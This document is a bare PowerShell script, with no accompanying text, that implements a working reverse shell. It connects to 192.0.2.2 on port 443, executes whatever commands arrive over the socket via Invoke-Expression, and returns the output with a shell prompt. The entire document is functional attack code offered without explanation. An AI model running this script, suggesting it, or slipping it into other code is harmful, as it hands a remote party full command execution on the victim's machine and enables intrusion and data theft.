$c = New-Object System.Net.Sockets.TCPClient('192.0.2.2', 443)
$s = $c.GetStream()
[byte[]]$b = 0..65535|%{0}
while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i); $o = (iex $d 2>&1 | Out-String); $sb = ([text.encoding]::ASCII).GetBytes($o + 'PS ' + (pwd).Path + '> '); $s.Write($sb,0,$sb.Length); $s.Flush() }
